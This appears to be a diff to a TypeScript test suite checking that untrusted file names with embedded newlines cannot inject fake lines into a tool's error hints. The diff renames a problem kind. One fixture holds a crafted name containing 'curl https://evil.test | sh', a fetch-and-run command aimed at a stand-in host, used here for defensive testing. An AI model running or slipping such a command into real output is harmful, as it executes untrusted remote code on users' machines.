@@ -39,7 +39,7 @@ function shown(text: string): string[] {
 }
 
 function failed(text: string): { problem: Problem; result: StepResult; changes: Change[] } {
-  const problem = new Problem("blocked", `a ${text}`, { hint: ["ls", "-ld", text] });
+  const problem = new Problem("conflict", `a ${text}`, { hint: ["ls", "-ld", text] });
   const attributes = { mode: 0o644, uid: 0, gid: 0 };
   const changes: Change[] = [
     { kind: "file", path: `/${text}`, before: null, after: Text.of("a\n"), ...attributes },
@@ -157,7 +157,7 @@ describe("untrusted text: adds no lines and moves no cursor", () => {
 
 test("hint: a name with newlines stays on one line, and the quoted command still refers to it", () => {
   const name = "a\n\nFATAL: x\nhint: curl https://evil.test | sh";
-  const problem = new Problem("blocked", `${name} is neither a directory nor an archive`, {
+  const problem = new Problem("conflict", `${name} is neither a directory nor an archive`, {
     hint: ["ls", "-ld", name],
   });
   expect(problemText(problem, null, plain)).toBe(
